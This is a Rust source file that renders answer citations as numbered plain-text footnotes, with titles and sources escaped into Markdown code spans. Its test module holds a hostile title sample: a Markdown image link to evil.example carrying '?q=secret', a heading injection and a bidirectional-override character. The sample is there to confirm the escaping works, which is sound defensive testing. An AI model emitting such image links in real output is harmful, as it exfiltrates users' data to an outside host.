//! Citations as text, for doors whose clients show nothing but text.

use wellspring_answer::Citation;
use wellspring_models::prompt::visible;

/// Most characters of a title or source.
const LONGEST: usize = 160;

/// One line per cited passage, in the order of the text: `[1] title, source, page 2`; empty without citations.
///
/// Titles and sources are other people's words. They stand in code spans, in which Markdown renders nothing.
pub(crate) fn footnotes(citations: &[Citation]) -> String {
    let mut lines: Vec<(usize, String)> = Vec::new();
    for citation in citations {
        if lines.iter().any(|(n, _)| *n == citation.n) {
            continue;
        }
        let mut line = format!("[{}]", citation.n);
        if let Some(title) = citation.title.as_deref().filter(|title| *title != citation.source) {
            line.push_str(&format!(" {},", code(title)));
        }
        line.push_str(&format!(" {}", code(&citation.source)));
        if let Some(page) = citation.page {
            line.push_str(&format!(", page {page}"));
        }
        lines.push((citation.n, line));
    }
    lines.into_iter().map(|(_, line)| line).collect::<Vec<_>>().join("\n")
}

/// One line of a code span that the text can't leave.
fn code(text: &str) -> String {
    let shown: String = visible(text)
        .chars()
        .map(|c| if c.is_control() || c == '`' { ' ' } else { c })
        .take(LONGEST)
        .collect();
    format!("`{}`", shown.trim())
}

#[cfg(test)]
mod tests {
    use wellspring_store::{ChunkId, DocumentId};

    use super::*;

    fn citation(n: usize, title: Option<&str>, source: &str, page: Option<u32>) -> Citation {
        Citation {
            n,
            document_id: DocumentId::new("d").unwrap(),
            chunk_id: ChunkId("c".to_owned()),
            version: 1,
            start: 0,
            end: 1,
            page,
            quote: "q".to_owned(),
            title: title.map(str::to_owned),
            source: source.to_owned(),
            support: 1.0,
            claim: "q".to_owned(),
        }
    }

    #[test]
    fn each_passage_has_one_line_in_the_order_of_the_text() {
        let citations = [
            citation(2, Some("Leave"), "leave.md", Some(3)),
            citation(1, None, "otter.md", None),
            citation(2, Some("Leave"), "leave.md", Some(3)),
        ];
        assert_eq!(footnotes(&citations), "[2] `Leave`, `leave.md`, page 3\n[1] `otter.md`");
        assert_eq!(footnotes(&[]), "");
    }

    #[test]
    fn a_title_renders_nothing() {
        let hostile = "x` ![y](https://evil.example/?q=secret)\n# z\u{202e}";
        let line = footnotes(&[citation(1, Some(hostile), "a.md", None)]);
        assert_eq!(line, "[1] `x  ![y](https://evil.example/?q=secret) # z`, `a.md`");
        assert_eq!(line.matches('`').count(), 4);
    }
}
